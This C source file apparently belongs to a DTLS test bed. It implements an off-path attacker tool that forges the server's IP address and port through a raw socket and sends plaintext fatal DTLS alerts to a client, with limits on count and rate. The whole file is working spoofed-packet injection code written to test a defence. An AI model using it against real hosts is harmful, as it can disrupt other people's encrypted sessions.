// SPDX-License-Identifier: GPL-2.0
/*
 * dtlskeep-spoof: the off-path attacker of the seed mail. Sends crafted
 * plaintext DTLS records with a forged source address and port (the
 * server's) through a raw socket, bounded in count and rate. For the test
 * bed's namespaces only.
 *
 *   dtlskeep-spoof -s 203.0.113.1:5700 -d 203.0.113.2:40000 -n 1000 -i 1000
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_COUNT 1000000

struct target {
	struct sockaddr_storage src, dst;
};

/* fatal unexpected_message, epoch 0: what a server without our state sends */
static const uint8_t alert[] = {
	0x15, 0xfe, 0xfd, 0x00, 0x00, 0, 0, 0, 0, 0, 0, 0x00, 0x02, 0x02, 0x0a,
};

static int parse(const char *s, struct sockaddr_storage *ss)
{
	char host[128];
	const char *colon = strrchr(s, ':');
	size_t n;
	int port;

	if (!colon || (n = (size_t)(colon - s)) >= sizeof(host))
		return -1;
	memcpy(host, s, n);
	host[n] = '\0';
	port = atoi(colon + 1);
	if (port < 1 || port > 65535)
		return -1;
	memset(ss, 0, sizeof(*ss));
	if (host[0] == '[' && host[n - 1] == ']') {
		struct sockaddr_in6 *a = (void *)ss;

		host[n - 1] = '\0';
		a->sin6_family = AF_INET6;
		a->sin6_port = htons(port);
		return inet_pton(AF_INET6, host + 1, &a->sin6_addr) == 1 ? 0 : -1;
	}
	struct sockaddr_in *a = (void *)ss;

	a->sin_family = AF_INET;
	a->sin_port = htons(port);
	return inet_pton(AF_INET, host, &a->sin_addr) == 1 ? 0 : -1;
}

static uint32_t sum16(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; len -= 2, p += 2)
		sum += (uint32_t)(p[0] << 8 | p[1]);
	if (len)
		sum += (uint32_t)(p[0] << 8);
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* UDP header + payload with the checksum over the pseudo-header */
static size_t udp(uint8_t *out, const struct target *t, const void *src_addr,
		  const void *dst_addr, size_t alen)
{
	struct udphdr *uh = (void *)out;
	size_t len = sizeof(*uh) + sizeof(alert);
	uint32_t sum = 0;

	uh->source = ((const struct sockaddr_in *)&t->src)->sin_port;
	uh->dest = ((const struct sockaddr_in *)&t->dst)->sin_port;
	uh->len = htons((uint16_t)len);
	uh->check = 0;
	memcpy(out + sizeof(*uh), alert, sizeof(alert));
	sum = sum16(src_addr, alen, sum);
	sum = sum16(dst_addr, alen, sum);
	sum += IPPROTO_UDP + (uint32_t)len;
	sum = sum16(out, len, sum);
	uh->check = fold(sum);
	if (!uh->check)
		uh->check = 0xffff;
	return len;
}

static size_t build4(uint8_t *pkt, const struct target *t)
{
	const struct sockaddr_in *s = (const void *)&t->src, *d = (const void *)&t->dst;
	struct iphdr *ip = (void *)pkt;
	size_t n = udp(pkt + sizeof(*ip), t, &s->sin_addr, &d->sin_addr, 4);

	memset(ip, 0, sizeof(*ip));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + n));
	ip->saddr = s->sin_addr.s_addr;
	ip->daddr = d->sin_addr.s_addr;
	ip->check = fold(sum16(ip, sizeof(*ip), 0));
	return sizeof(*ip) + n;
}

static size_t build6(uint8_t *pkt, const struct target *t)
{
	const struct sockaddr_in6 *s = (const void *)&t->src, *d = (const void *)&t->dst;
	struct ip6_hdr *ip = (void *)pkt;
	size_t n = udp(pkt + sizeof(*ip), t, &s->sin6_addr, &d->sin6_addr, 16);

	memset(ip, 0, sizeof(*ip));
	ip->ip6_flow = htonl(6u << 28);
	ip->ip6_plen = htons((uint16_t)n);
	ip->ip6_nxt = IPPROTO_UDP;
	ip->ip6_hlim = 64;
	ip->ip6_src = s->sin6_addr;
	ip->ip6_dst = d->sin6_addr;
	return sizeof(*ip) + n;
}

static int run(const struct target *t, long count, long interval_us)
{
	int family = t->dst.ss_family;
	uint8_t pkt[128];
	size_t len = family == AF_INET ? build4(pkt, t) : build6(pkt, t);
	struct timespec gap = { interval_us / 1000000, (interval_us % 1000000) * 1000 };
	/* IPPROTO_RAW: we write the IP header ourselves, source included */
	int fd = socket(family, SOCK_RAW, IPPROTO_RAW);
	long sent = 0;

	if (fd < 0) {
		perror("spoof: raw socket (needs CAP_NET_RAW)");
		return 1;
	}
	for (long i = 0; i < count; i++) {
		if (sendto(fd, pkt, len, 0, (const struct sockaddr *)&t->dst,
			   family == AF_INET ? sizeof(struct sockaddr_in) :
					       sizeof(struct sockaddr_in6)) > 0)
			sent++;
		if (interval_us)
			nanosleep(&gap, NULL);
	}
	close(fd);
	printf("sent=%ld\n", sent);
	return sent == count ? 0 : 1;
}

int main(int argc, char **argv)
{
	struct target t = { 0 };
	long count = 1, interval_us = 1000;
	int c, have = 0;

	while ((c = getopt(argc, argv, "s:d:n:i:h")) != -1) {
		switch (c) {
		case 's': have |= parse(optarg, &t.src) ? 0 : 1; break;
		case 'd': have |= parse(optarg, &t.dst) ? 0 : 2; break;
		case 'n': count = strtol(optarg, NULL, 10); break;
		case 'i': interval_us = strtol(optarg, NULL, 10); break;
		default:
			fprintf(stderr, "usage: dtlskeep-spoof -s SRC:PORT -d DST:PORT"
				" [-n COUNT] [-i INTERVAL_US]\n"
				"  sends plaintext fatal DTLS alerts from a forged source\n");
			return 2;
		}
	}
	if (have != 3 || t.src.ss_family != t.dst.ss_family || count < 1 ||
	    count > MAX_COUNT || interval_us < 0) {
		fprintf(stderr, "spoof: need -s and -d of one family, 1 <= -n <= %d\n",
			MAX_COUNT);
		return 2;
	}
	return run(&t, count, interval_us);
}
